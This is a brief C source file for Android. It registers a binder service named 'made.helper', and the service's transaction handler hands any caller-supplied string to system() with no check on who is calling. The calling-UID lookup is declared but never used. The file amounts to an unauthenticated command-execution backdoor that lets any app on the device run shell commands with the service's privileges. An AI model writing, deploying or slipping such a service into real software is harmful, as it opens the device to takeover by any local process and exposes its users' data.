typedef struct { void *object, *unused[2]; } result;
typedef struct { void *text; } wide;
typedef int (*method)();

result _ZN7android21defaultServiceManagerEv(void);
void _ZN7android8String16C1EPKc(wide *, const char *);
void _ZN7android8String16D1Ev(wide *);
const char *_ZNK7android6Parcel11readCStringEv(const void *);
void *_ZN7android14IPCThreadState4selfEv(void);
unsigned _ZNK7android14IPCThreadState13getCallingUidEv(const void *);
void _ZN7android14IPCThreadState14joinThreadPoolEb(void *, int);
int system(const char *);

static int on_transact(void *self, unsigned code, const void *data, void *reply, unsigned flags) {
    const char *line;
    if (code != 1) return -74;
    line = _ZNK7android6Parcel11readCStringEv(data);
    return line ? system(line) : -22;
}

static const method methods[] = { (method) on_transact };

static struct { const method *methods; } object = { methods };

void _start(void) {
    result manager = _ZN7android21defaultServiceManagerEv();
    void *offered = &object;
    wide name;
    _ZN7android8String16C1EPKc(&name, "made.helper");
    (*(const method **) manager.object)[6](manager.object, &name, &offered, 0, 8);
    _ZN7android8String16D1Ev(&name);
    _ZN7android14IPCThreadState14joinThreadPoolEb(_ZN7android14IPCThreadState4selfEv(), 1);
    for (;;) {}
}
